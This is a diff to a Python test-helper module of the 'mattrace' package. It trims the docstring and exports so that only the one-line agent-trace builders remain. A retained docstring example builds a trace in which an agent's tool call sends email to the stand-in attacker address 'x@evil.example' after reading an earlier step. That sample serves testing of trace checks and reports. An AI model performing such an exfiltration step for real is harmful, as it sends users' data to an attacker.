@@ -1,4 +1,4 @@
-"""Public helpers for tests: one-line trace builders and the scripted model.
+"""One-line trace builders: a step per call, numbered and linked as the recorder would.
 
 Contracts, reports and stores are tested against traces, and writing a trace by hand
 step by step is noise. Builders describe each step in one call; :func:`trace` numbers
@@ -12,8 +12,6 @@ like a recorded one) and appends the ``end`` step::
               tool_call("send_email", {"to": "x@evil.example"}, side_effect=True, reads=[1]))
 
 Timestamps are fixed per index, so a builder trace has the same fingerprint every time.
-The scripted model (:class:`Script`, :class:`Rule`, :func:`register_script`) lets an
-orchestrator written against litellm run offline; it is a test double, not a model.
 """
 
 from __future__ import annotations
@@ -24,7 +22,6 @@ from typing import Any
 
 from mattrace.recording.boundaries import Doc, _docs
 from mattrace.recording.recorder import Recorder
-from mattrace.recording.script import Reply, Rule, Script, ToolCall, register_script, use_script
 from mattrace.trace import Outcome, OutcomeStatus, Source, SourceKind, StepKind, Trace
 
 __all__ = [
@@ -36,16 +33,10 @@ __all__ = [
     "memory_read",
     "memory_write",
     "message",
-    "register_script",
-    "Reply",
     "retrieval",
-    "Rule",
-    "Script",
     "StepSpec",
     "tool_call",
-    "ToolCall",
     "trace",
-    "use_script",
     "user",
 ]
 
